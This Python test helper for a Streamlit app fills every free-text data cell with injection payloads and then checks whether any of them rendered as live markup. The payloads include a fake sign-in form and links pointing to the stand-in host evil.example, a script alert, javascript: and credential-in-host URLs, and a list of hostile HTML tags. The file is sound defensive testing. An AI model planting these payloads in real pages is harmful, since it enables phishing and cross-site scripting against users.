"""Markup, CSS and hostile addresses to put into every text a page shows, and how to tell whether any of it went live.

Shared by the AppTest pages test (which reads the markdown each page hands to Streamlit) and the
Chromium test (which reads what Streamlit drew). The payload host, evil.example, is the tell: nothing
on a page may link to it, load from it or post to it.
"""

from __future__ import annotations

import html
import re

import pandas as pd

from usascp.schema import FOREIGN_KEYS, SCHEMAS

EVIL = "evil.example"
# One cell of everything that would restyle the page, draw a form, load a picture, link away or render
# colour, maths, icons, headings or lists if it reached Streamlit's markdown (or plotly's HTML) as syntax.
MARKUP = (
    "[Sign in to continue](https://evil.example/login) ![x](http://evil.example/b.png) :red[**RED ALERT**] "
    "$$\\frac{1}{2}$$ <style>body{background:url(http://evil.example/x)}</style>"
    '<form action="https://evil.example/f"><input name=password><button>Sign in</button></form> '
    '<a href="https://evil.example/a">here</a> "><script>alert(1)</script> <h2>Fake</h2> '
    "www.evil.example/w bob@evil.example :streamlit: :material_skull: :material/skull:"
    "\n\n# Payload heading\n\n- payload item"
)
# Each refused by the schema (formatting.WEB_ADDRESS). The AppTest puts them past it, as into a dataset
# checked by an older rule, to show that the links themselves refuse them too.
HOSTILE_URLS = [
    "https://a.example/)<style>body{background:url(http://evil.example/x)}</style><h2>Fake</h2>",
    'https://a.example/"><form action=https://evil.example/f><input><button>Go</button></form>',
    "javascript:alert(1)//evil.example",
    "https://trusted.example@evil.example/login",
]
HOSTILE_TAGS = ("style", "form", "input", "button", "script", "img", "a", "h2", "iframe")


def free_text_columns() -> dict[str, list[str]]:
    """Per table, the columns a person may write anything in: no allowed values, pattern, type or key."""
    keys = {(key.table, key.column) for key in FOREIGN_KEYS} | {(key.target_table, key.target_column) for key in FOREIGN_KEYS}
    return {
        table: [
            name
            for name, column in schema.columns.items()
            if column.dtype is None
            and not column.checks
            and (not name.endswith("_id") or name == "record_id")  # a public register's identifier is anyone's text
            and (table, name) not in keys
        ]
        for table, schema in SCHEMAS.items()
    }


def with_markup(tables: dict[str, pd.DataFrame]) -> dict[str, pd.DataFrame]:
    """The tables with MARKUP in every filled free-text cell, numbered so names stay unique (city with iso3).

    An optional column the files leave out or leave empty everywhere (a source's licence, a project's record_id)
    is filled in every row, so what the pages make of it is walked too.
    """
    marked = {}
    for table, columns in free_text_columns().items():
        frame = tables[table].copy()
        for name in columns:
            values = frame[name] if name in frame else pd.Series("", index=frame.index, dtype=object)
            unused = bool(len(frame)) and (values.isna() | (values == "")).all()
            frame[name] = [
                value if (pd.isna(value) or value == "") and not unused else f"{MARKUP} {number}"
                for number, value in enumerate(values)
            ]
        marked[table] = frame
    return marked


def live_markup(source: str) -> list[str]:
    """What of MARKUP or HOSTILE_URLS Streamlit would render as live in this markdown: links to EVIL,
    pictures, tags, colour, maths, icons, headings or lists. Empty when all of it is shown as text.

    Streamlit reads syntax in the source, and finds web and e-mail addresses and :codes: in the text
    after decoding character references (the patterns below are its own, from Streamlit 1.67).
    """
    decoded = html.unescape(source)
    checks = {
        "an HTML tag": re.search(rf"<\s*/?\s*({'|'.join(HOSTILE_TAGS)})\b", source, re.IGNORECASE),
        "a markdown link or picture to the payload host": re.search(rf"\]\(\s*<?[^)\s]*{re.escape(EVIL)}", source),
        "a picture": "![" in source,
        "a link to a hostile address": re.search(
            r"\]\(\s*<?\s*(javascript:|https://a\.example/\)|https://trusted\.example@)", source
        ),
        "a colour directive": ":red[" in source,
        "bold text": "**RED ALERT**" in source,
        "maths": "$$" in source or "\\frac" in source,
        "an icon": ":material/skull:" in source,
        "a heading or list from the data": re.search(r"(?m)^\s{0,3}(#{1,6} Payload heading|[-+*] payload item)", source),
        "an address Streamlit links": re.search(rf"(?i)(https?://|www\.)[-.\w]*{re.escape(EVIL)}", decoded),
        "an e-mail address Streamlit links": re.search(rf"[-.\w+]+@{re.escape(EVIL)}", decoded),
        "a :code: Streamlit draws": re.search(r":streamlit:|:material_skull:", decoded),
    }
    return [what for what, found in checks.items() if found]
